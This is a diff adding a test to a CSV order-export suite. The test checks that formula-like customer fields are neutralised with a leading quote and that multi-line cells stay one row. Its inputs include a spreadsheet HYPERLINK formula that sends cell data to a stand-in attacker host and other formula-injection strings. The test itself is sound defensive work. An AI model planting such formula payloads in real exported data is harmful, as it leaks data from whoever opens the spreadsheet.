@@ -4,6 +4,7 @@ import { fill } from '../../bench/generate.js';
 import { buildOrder, buildPackingOrder, buildProduct } from '../builders.js';
 import { api, makeApp, makeDb } from '../helpers.js';
 import { apiError } from '../json.js';
+import { pythonCsv } from '../csv.js';
 
 /** Reads a response body as text whatever its content type (supertest buffers text/csv as text). */
 function csvRows(text: string, delimiter = ','): string[][] {
@@ -12,6 +13,41 @@ function csvRows(text: string, delimiter = ','): string[][] {
 }
 
 describe('CSV export', () => {
+  it('writes a formula-like text cell with a leading quote and a line break quoted: one row, as Python reads it', async () => {
+    const { app, db } = makeApp();
+    const hostile = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
+    buildOrder(db, {
+      body: {
+        customer: {
+          name: hostile,
+          email: 'evil@example.com',
+          phone: '+46 70 123 45 67',
+          address: { line1: 'Storgatan 1\nPort B', line2: '@SUM(1+1)*cmd', postalCode: '-123', city: '  +Malmö', country: 'SE' },
+        },
+      },
+    });
+    for (const separator of [',', ';'] as const) {
+      const res = await api(app).get(`/api/v1/orders.csv?separator=${encodeURIComponent(separator)}`).buffer(true);
+      expect(res.status).toBe(200);
+      const rows = pythonCsv(res.text, separator);
+      expect(rows).toHaveLength(2);
+      const [header, row] = rows as [string[], string[]];
+      const cell = (name: string) => row[header.indexOf(name)];
+      expect(cell('customer_name')).toBe(`'${hostile}`);
+      expect(cell('customer_phone')).toBe(`'+46 70 123 45 67`);
+      expect(cell('ship_line1')).toBe('Storgatan 1\nPort B');
+      expect(cell('ship_line2')).toBe(`'@SUM(1+1)*cmd`);
+      expect(cell('ship_postal_code')).toBe(`'-123`);
+      expect(cell('ship_city')).toBe(`'  +Malmö`);
+      // The figures the export writes itself stay numbers.
+      expect(cell('quantity')).toBe('2');
+      expect(cell('order_total')).toMatch(/^\d+[.,]\d\d$/);
+      // No cell of the file starts a formula.
+      for (const c of row) expect(c).not.toMatch(/^ *[=+\-@\t\r]/);
+    }
+  });
+
+
   it('streams 100,000 orders as CSV, one row per line, newest first', async () => {
     const db = makeDb();
     fill(db, { products: 300, orders: 100_000, linesPerOrder: 1 });
